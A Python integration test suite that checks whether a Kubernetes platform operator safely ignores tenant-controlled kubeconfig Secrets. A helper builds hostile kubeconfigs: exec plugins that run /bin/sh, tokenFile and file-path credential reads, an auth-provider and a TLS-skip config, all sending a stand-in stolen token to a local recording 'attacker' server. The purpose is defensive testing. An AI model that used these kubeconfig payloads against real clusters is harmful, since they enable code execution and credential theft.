"""Hole 2: a tenant rewrites ``<cluster>-kubeconfig`` to run code in, read files of, or redirect
the platform's pods — against the real operator process, a real `local` member and the real API.

The tenant owns its namespace, so it can write that Secret at will. The platform reaches the
member only through its own copy (``member-<uid>`` in the platform namespace), so every hostile
kubeconfig must be ignored: delivery and the API's workload reads still reach the real member,
no command runs, nothing reaches the tenant's host, and the operator restores the tenant's copy
with a Warning Event naming the Secret.
"""

from __future__ import annotations

import base64
import json
import uuid
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import pytest
import yaml
from lightkube import Client, KubeConfig
from lightkube.core.exceptions import ApiError
from lightkube.models.apps_v1 import DeploymentSpec
from lightkube.models.core_v1 import Container, PodSpec, PodTemplateSpec
from lightkube.models.meta_v1 import LabelSelector, ObjectMeta
from lightkube.resources.apps_v1 import Deployment
from lightkube.resources.core_v1 import ConfigMap, Event, Secret
from lightkube.types import PatchType

from hybridcloud.api.settings import Settings, Tier
from hybridcloud.controlplane import ControlPlane
from hybridcloud.kube.member_credentials import platform_secret_name
from hybridcloud.kube.resources import HybridClusterResource

from ..integration.api_support import PLATFORM_NAMESPACE, bearer, identity, serve
from ..integration.clouds import AKSCloud
from ..integration.harness import (
    OperatorProcess,
    condition,
    delivery_operator,
    eventually,
    fresh_namespace,
    get_cluster,
    wait_gone,
    wait_phase,
)
from ..integration.test_application_delivery import Repo, create_app, is_ready, refresh, wait_app
from .attacker import RecordingServer

pytestmark = pytest.mark.integration
CLUSTER = "victim"
STOLEN = "stolen-serviceaccount-token-4f2a9c"  # what a tokenFile would send


# -- the stage: a real member the operator registered itself, an app on it, the API ---------------

@pytest.fixture(scope="module")
def tenant(kube: Client) -> Iterator[str]:
    with fresh_namespace(kube, "sec-members") as name:
        yield name


@pytest.fixture(scope="module")
def operator(management: ControlPlane, tenant: str,
             tmp_path_factory: pytest.TempPathFactory) -> Iterator[OperatorProcess]:
    with delivery_operator(management.kubeconfig, tenant,
                           tmp_path_factory.mktemp("operator")) as process:
        yield process


@pytest.fixture(scope="module")
def victim(kube: Client, tenant: str, operator: OperatorProcess) -> Client:
    """The real member, reached (by the test) through the platform's copy of its credential."""
    kube.create(HybridClusterResource.from_dict({
        "apiVersion": "platform.example.com/v1", "kind": "HybridCluster",
        "metadata": {"name": CLUSTER},
        "spec": {"provider": "local", "version": "v1.37.2", "region": "local-a",
                 "nodeGroups": [{"name": "workers", "size": 1}]}}), namespace=tenant)
    wait_phase(kube, tenant, CLUSTER, "Active", operator, timeout=180)
    client = Client(config=KubeConfig.from_dict(yaml.safe_load(platform_copy(kube, tenant))),
                    field_manager="tests")
    client.apply(_deployment("victim-marker"))
    return client


@pytest.fixture(scope="module")
def tenant_cluster(member_cluster: Callable[..., ControlPlane]) -> ControlPlane:
    """A cluster the tenant controls, with a fully valid kubeconfig of its own."""
    plane = member_cluster("tenant-owned", nodes=1)
    Client(config=KubeConfig.from_file(plane.kubeconfig), field_manager="tests").apply(
        _deployment("tenant-marker"))
    return plane


@pytest.fixture(scope="module")
def http(management: ControlPlane, kube: Client, tenant: str,
         victim: Client) -> Iterator[httpx.Client]:
    settings = Settings(kubeconfig=str(management.kubeconfig), default_tier=Tier.ENTERPRISE,
                        oauth_namespace="sec-members-oauth")
    with serve(settings) as base, httpx.Client(
            base_url=base, headers=bearer(identity(kube, tenant, "tenant")),
            timeout=30) as client:
        eventually(lambda: client.get(f"/v1/clusters/{CLUSTER}").json().get("status")
                   == "active", timeout=30)
        yield client


@pytest.fixture(scope="module")
def app(kube: Client, tenant: str, operator: OperatorProcess, victim: Client,
        tmp_path_factory: pytest.TempPathFactory) -> Repo:
    repo = Repo(tmp_path_factory.mktemp("repo"))
    repo.commit(_probe("initial"))
    create_app(kube, tenant, "probe", repo, "manifests", targetNamespace="probe",
               placement=[{"cluster": CLUSTER}], syncPolicy={"automated": True})
    wait_app(kube, tenant, "probe", operator, is_ready, "Ready", timeout=120)
    return repo


# -- helpers ---------------------------------------------------------------------------------

def _deployment(name: str) -> Deployment:
    labels = {"app": name}
    return Deployment(metadata=ObjectMeta(name=name, namespace="default"), spec=DeploymentSpec(
        replicas=0, selector=LabelSelector(matchLabels=labels),
        template=PodTemplateSpec(metadata=ObjectMeta(labels=labels), spec=PodSpec(
            containers=[Container(name="c", image="registry.example.com/c:v1")]))))


def _probe(round_: str) -> dict[str, str | None]:
    return {"manifests/probe.yaml": yaml.safe_dump({
        "apiVersion": "v1", "kind": "ConfigMap", "metadata": {"name": "probe"},
        "data": {"round": round_}})}


def platform_copy(kube: Client, tenant: str) -> str:
    uid = kube.get(HybridClusterResource, CLUSTER, namespace=tenant)["metadata"]["uid"]
    secret = kube.get(Secret, platform_secret_name(uid), namespace=PLATFORM_NAMESPACE)
    return base64.b64decode((secret.data or {})["value"]).decode()


def tenant_copy(kube: Client, tenant: str) -> str | None:
    try:
        secret = kube.get(Secret, f"{CLUSTER}-kubeconfig", namespace=tenant)
    except ApiError as exc:
        if exc.status.code == 404:
            return None
        raise
    return base64.b64decode((secret.data or {}).get("value", "")).decode()


def overwrite_tenant_copy(kube: Client, tenant: str, document: dict[str, Any] | str) -> None:
    """What the tenant may do in its own namespace: replace the Secret's value."""
    text = document if isinstance(document, str) else yaml.safe_dump(document)
    kube.patch(Secret, f"{CLUSTER}-kubeconfig", {"data": {
        "value": base64.b64encode(text.encode()).decode()}}, namespace=tenant,
        patch_type=PatchType.MERGE)


def kubeconfig(server: str, user: dict[str, Any], **cluster: Any) -> dict[str, Any]:
    return {"apiVersion": "v1", "kind": "Config", "current-context": "evil",
            "clusters": [{"name": "evil", "cluster": {"server": server, **cluster}}],
            "users": [{"name": "evil", "user": user}],
            "contexts": [{"name": "evil", "context": {"cluster": "evil", "user": "evil"}}]}


def hostile(kind: str, attacker: RecordingServer, workdir: Path) -> dict[str, Any]:
    """The tenant's kubeconfig for each attack; ``workdir/marker`` appears if code ran."""
    secret_file = workdir / "serviceaccount-token"
    secret_file.write_text(STOLEN)
    marker = workdir / "marker"
    # v1beta1: the exec API version lightkube implements, so the old loader really ran it.
    exec_output = json.dumps({"apiVersion": "client.authentication.k8s.io/v1beta1",
                              "kind": "ExecCredential", "status": {"token": STOLEN}})
    if kind == "exec":
        return kubeconfig(attacker.url, {"exec": {
            "apiVersion": "client.authentication.k8s.io/v1beta1", "command": "/bin/sh",
            "args": ["-c", f"touch {marker}; echo '{exec_output}'"]}})
    if kind == "tokenFile":
        return kubeconfig(attacker.url, {"tokenFile": str(secret_file)})
    if kind == "file-paths":
        return kubeconfig(attacker.url, {"client-certificate": str(secret_file),
                                         "client-key": str(secret_file), "token": STOLEN},
                          **{"certificate-authority": str(secret_file)})
    if kind == "auth-provider":
        return kubeconfig(attacker.url, {"auth-provider": {
            "name": "oidc", "config": {"id-token": STOLEN, "idp-issuer-url": attacker.url}}})
    if kind == "insecure-skip-tls-verify":
        return kubeconfig(attacker.url, {"token": STOLEN}, **{"insecure-skip-tls-verify": True})
    raise AssertionError(kind)


def deliver_new_round(kube: Client, tenant: str, operator: OperatorProcess, repo: Repo,
                      victim: Client, round_: str) -> None:
    """A new revision reaches the real member (the platform copy was used, whatever the tenant's
    Secret says)."""
    sha = repo.commit(_probe(round_))
    refresh(kube, tenant, "probe")
    wait_app(kube, tenant, "probe", operator,
             lambda o: is_ready(o) and o["status"].get("sourceRevision") == sha,
             f"Ready at {sha}", timeout=90)
    found = victim.get(ConfigMap, "probe", namespace="probe")
    assert (found.data or {}).get("round") == round_


def workloads_reach_the_victim(http: httpx.Client) -> None:
    response = http.get(f"/v1/clusters/{CLUSTER}/workloads",
                        params={"workload_namespace": "default"})
    assert response.status_code == 200, response.text
    names = {d["name"] for d in response.json()["workloads"]["deployments"]}
    assert "victim-marker" in names and "tenant-marker" not in names


def restore_warnings(kube: Client, tenant: str) -> set[str]:
    uid = kube.get(HybridClusterResource, CLUSTER, namespace=tenant)["metadata"]["uid"]
    return {f"{e.metadata.name}: {e.message}" for e in kube.list(Event, namespace=tenant)
            if e.metadata and e.involvedObject.uid == uid and e.type == "Warning"
            and e.reason == "ClusterKubeconfigRestored"}


def restored_with_a_warning(kube: Client, tenant: str, operator: OperatorProcess,
                            seen: set[str]) -> None:
    """The operator rewrites the tenant's copy from its own and says so (a new Warning Event
    naming the Secret and key)."""
    expected = platform_copy(kube, tenant)
    eventually(lambda: tenant_copy(kube, tenant) == expected, timeout=30,
               message=lambda: f"{CLUSTER}-kubeconfig was not restored\n{operator.tail()}")
    new = eventually(lambda: restore_warnings(kube, tenant) - seen, timeout=30,
                     message="no new ClusterKubeconfigRestored event")
    assert all(f"Secret {CLUSTER}-kubeconfig (key value)" in event for event in new)


# -- the attacks ----------------------------------------------------------------------------------

@pytest.mark.parametrize("kind", ["exec", "tokenFile", "file-paths", "auth-provider",
                                  "insecure-skip-tls-verify"])
def test_a_hostile_tenant_kubeconfig_is_never_loaded_by_the_operator_or_the_api(
        kind: str, kube: Client, tenant: str, operator: OperatorProcess, victim: Client,
        app: Repo, http: httpx.Client, attacker: RecordingServer, tmp_path: Path) -> None:
    seen = restore_warnings(kube, tenant)
    overwrite_tenant_copy(kube, tenant, hostile(kind, attacker, tmp_path))

    workloads_reach_the_victim(http)
    deliver_new_round(kube, tenant, operator, app, victim, f"{kind}-{uuid.uuid4().hex[:6]}")

    assert not (tmp_path / "marker").exists(), "the tenant's exec plugin ran in the platform"
    assert attacker.requests == [], f"the platform called the tenant's host: {attacker.text()}"
    attacker.assert_received_none_of([STOLEN])
    restored_with_a_warning(kube, tenant, operator, seen)


def test_a_valid_kubeconfig_for_the_tenants_own_cluster_does_not_redirect_the_platform(
        kube: Client, tenant: str, operator: OperatorProcess, victim: Client, app: Repo,
        http: httpx.Client, tenant_cluster: ControlPlane) -> None:
    seen = restore_warnings(kube, tenant)
    overwrite_tenant_copy(kube, tenant, tenant_cluster.kubeconfig.read_text())

    workloads_reach_the_victim(http)
    deliver_new_round(kube, tenant, operator, app, victim, f"own-{uuid.uuid4().hex[:6]}")

    own = Client(config=KubeConfig.from_file(tenant_cluster.kubeconfig), field_manager="tests")
    with pytest.raises(ApiError) as missing:
        own.get(ConfigMap, "probe", namespace="probe")
    assert missing.value.status.code == 404, "delivery went to the tenant's cluster"
    restored_with_a_warning(kube, tenant, operator, seen)


def test_a_deleted_tenant_copy_is_recreated_and_delivery_continues(
        kube: Client, tenant: str, operator: OperatorProcess, victim: Client, app: Repo,
        http: httpx.Client) -> None:
    seen = restore_warnings(kube, tenant)
    kube.delete(Secret, f"{CLUSTER}-kubeconfig", namespace=tenant)

    workloads_reach_the_victim(http)
    deliver_new_round(kube, tenant, operator, app, victim, f"gone-{uuid.uuid4().hex[:6]}")
    restored_with_a_warning(kube, tenant, operator, seen)


def test_a_kubeconfig_secret_planted_before_the_cluster_exists_is_never_trusted(
        kube: Client, tenant: str, operator: OperatorProcess,
        tenant_cluster: ControlPlane) -> None:
    """Before, a ``<cluster>-kubeconfig`` without an expiry was trusted as fresh for ten years:
    planted ahead of the cluster, it became the credential the platform used."""
    planted = tenant_cluster.kubeconfig.read_text()
    kube.create(Secret(metadata=ObjectMeta(name="planted-kubeconfig", namespace=tenant),
                       stringData={"value": planted}))
    kube.create(HybridClusterResource.from_dict({
        "apiVersion": "platform.example.com/v1", "kind": "HybridCluster",
        "metadata": {"name": "planted"},
        "spec": {"provider": "local", "version": "v1.37.2", "region": "local-b",
                 "nodeGroups": [{"name": "workers", "size": 1}]}}), namespace=tenant)
    obj = wait_phase(kube, tenant, "planted", "Active", operator, timeout=180)
    platform = kube.get(Secret, platform_secret_name(obj["metadata"]["uid"]),
                        namespace=PLATFORM_NAMESPACE)
    ours = base64.b64decode((platform.data or {})["value"]).decode()
    server = yaml.safe_load(ours)["clusters"][0]["cluster"]["server"]
    assert server != yaml.safe_load(planted)["clusters"][0]["cluster"]["server"]

    def rewritten() -> bool:
        secret = kube.get(Secret, "planted-kubeconfig", namespace=tenant)
        return base64.b64decode((secret.data or {})["value"]).decode() == ours

    eventually(rewritten, timeout=30, message=lambda: f"planted copy kept\n{operator.tail()}")
    kube.delete(HybridClusterResource, "planted", namespace=tenant)
    wait_gone(kube, tenant, "planted", operator, timeout=120)
    with pytest.raises(ApiError) as gone:  # the platform copy goes with the cluster
        kube.get(Secret, platform_secret_name(obj["metadata"]["uid"]),
                 namespace=PLATFORM_NAMESPACE)
    assert gone.value.status.code == 404


def test_a_tenants_cloud_endpoint_handing_out_an_exec_kubeconfig_is_refused_naming_the_field(
        management: ControlPlane, kube: Client, namespace: str, tmp_path: Path) -> None:
    """The tenant's credentials may point at a cloud API it runs itself; whatever kubeconfig that
    returns is checked before it is stored or loaded."""
    cloud = AKSCloud()
    cloud.start()
    marker = tmp_path / "marker"
    evil = kubeconfig("https://10.0.0.1:443", {"exec": {
        "apiVersion": "client.authentication.k8s.io/v1", "command": "/bin/sh",
        "args": ["-c", f"touch {marker}"]}})
    cloud.fake.server.fail_next(1000, status=200, path=r"/listClusterUserCredential$", body={
        "kubeconfigs": [{"name": "clusterUser", "value": base64.b64encode(
            yaml.safe_dump(evil).encode()).decode()}]})
    kube.create(Secret(metadata=ObjectMeta(name="hybridcloud-azure-credentials",
                                           namespace=namespace),
                       stringData=cloud.credentials()))
    operator = OperatorProcess(management.kubeconfig, namespace, tmp_path / "operator")
    operator.start()
    try:
        kube.create(HybridClusterResource.from_dict({
            "apiVersion": "platform.example.com/v1", "kind": "HybridCluster",
            "metadata": {"name": "cloudy"},
            "spec": {"provider": "azure", "region": cloud.region, "version": cloud.version,
                     "nodeGroups": [{"name": "workers", "size": 1,
                                     "instanceType": cloud.instance_type}]}}),
            namespace=namespace)

        def refused() -> dict[str, Any] | None:
            ready = condition(get_cluster(kube, namespace, "cloudy"), "Ready") or {}
            return ready if ready.get("reason") == "UnsafeKubeconfig" else None

        ready = eventually(refused, timeout=90, message=lambda: f"not refused:\n"
                           f"{(get_cluster(kube, namespace, 'cloudy') or {}).get('status')}\n"
                           f"{operator.tail()}")
        assert ready["status"] == "False" and "users[0].user.exec" in ready["message"]
        assert not marker.exists(), "the cloud's exec plugin ran in the operator"
        uid = kube.get(HybridClusterResource, "cloudy", namespace=namespace)["metadata"]["uid"]
        for name, where in ((platform_secret_name(uid), PLATFORM_NAMESPACE),
                            ("cloudy-kubeconfig", namespace)):
            with pytest.raises(ApiError) as missing:
                kube.get(Secret, name, namespace=where)
            assert missing.value.status.code == 404, f"{where}/{name} was written"
        kube.delete(HybridClusterResource, "cloudy", namespace=namespace)
        wait_gone(kube, namespace, "cloudy", operator)
    finally:
        operator.stop()
        cloud.stop()
